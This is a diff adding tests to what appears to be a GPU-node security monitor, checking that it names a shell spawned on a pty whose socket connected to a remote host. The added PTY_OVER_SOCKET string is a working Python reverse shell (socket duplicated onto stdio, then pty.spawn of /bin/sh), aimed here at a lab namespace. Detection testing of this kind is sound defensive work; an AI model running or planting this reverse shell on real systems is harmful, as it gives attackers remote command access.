@@ -18,7 +18,7 @@ import pytest
 
 from gpuguard.v1 import policy_pb2 as ppb
 from gpuguard.vocab import EXEC_TRAIT_BITS
-from lab import RESOLVE_CONNECT, FakePool, FakeResolver
+from lab import RESOLVE_CONNECT, FakePool, FakeResolver, popen_in_cgroup
 from tests.conftest import PYTHON, run_in_cgroup, wait_for
 
 pytestmark = pytest.mark.kernel
@@ -199,3 +199,60 @@ def test_execs_killed_by_what_they_are_whatever_their_name(capture, enforcer, te
 def _tools():
     for tool in ("openssl", "curl", "timeout"):
         assert shutil.which(tool), f"{tool} is needed (scripts/setup.sh installs it)"
+
+
+# The attacker's helper, from a file (no argv rule can see it): connect out, put the socket on stdio, and run a
+# shell on a fresh pty whose master this process keeps (what `socat tcp:H:P exec:sh,pty` and pty.spawn do).
+PTY_OVER_SOCKET = """
+import os, pty, socket, sys
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)
+for fd in (0, 1, 2):
+    os.dup2(s.fileno(), fd)
+pty.spawn(["/bin/sh", "-c", "sleep 2"])
+"""
+HOLD = """
+import socket, sys, time
+srv = socket.create_server((sys.argv[1], int(sys.argv[2]))); print("listening", flush=True)
+conn, _ = srv.accept(); time.sleep(6)
+"""
+
+
+def test_a_shell_on_a_pty_whose_master_connected_out_is_named(capture, test_cgroup, tmp_path):
+    from lab import remote_host  # noqa: PLC0415
+
+    job, cg = new_job(test_cgroup)
+    helper = tmp_path / "helper.py"
+    helper.write_text(PTY_OVER_SOCKET)
+    with remote_host(tmp_path) as remote:
+        peer = subprocess.Popen(["ip", "netns", "exec", remote.netns, PYTHON, "-c", HOLD, remote.addr, "4444"],
+                                stdout=subprocess.PIPE, text=True)
+        try:
+            assert peer.stdout.readline().strip() == "listening"
+            attack = popen_in_cgroup(cg, [PYTHON, str(helper), remote.addr, "4444"])   # polled while it runs
+            hits = wait_for(capture, lambda r: r["kind"] == "exec" and r["job"]["id"] == job
+                            and r["exec"]["filename"] == "/bin/sh", timeout=10)
+            assert attack.wait(30) == 0
+        finally:
+            peer.kill()
+            peer.wait(10)
+    assert hits and hits[0]["exec"]["stdio"] == ["pty", "pty", "pty"]
+    assert f"connected to {remote.addr}:4444" in hits[0]["exec"]["pty_peer"], hits[0]["exec"]
+
+
+def test_terminals_that_did_not_connect_out_are_not_named(capture, test_cgroup, tmp_path):
+    job, cg = new_job(test_cgroup)
+    helper = tmp_path / "helper.py"
+    helper.write_text(PTY_OVER_SOCKET)
+    with FakePool() as pool:           # the same helper, but its connection stays on the node (jupyter's kernels)
+        local = popen_in_cgroup(cg, [PYTHON, str(helper), "127.0.0.1", str(pool.port)])
+        term = popen_in_cgroup(cg, ["script", "-qc", "/bin/sh -c 'sleep 2'", "/dev/null"],
+                               stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
+        hits = wait_for(capture, lambda r: r["kind"] == "exec" and r["job"]["id"] == job
+                        and r["exec"]["filename"] == "/bin/sh" and r["exec"]["stdio"][0] == "pty"
+                        and r["exec"]["argv"][-1] == "sleep 2", timeout=10)
+        while len(hits) < 2 and local.poll() is None:
+            hits = wait_for(capture, lambda r: r["kind"] == "exec" and r["job"]["id"] == job
+                            and r["exec"]["filename"] == "/bin/sh" and r["exec"]["stdio"][0] == "pty", timeout=1)
+        local.wait(30)
+        term.wait(30)
+    assert len(hits) >= 2 and all(h["exec"]["pty_peer"] == "" for h in hits), hits
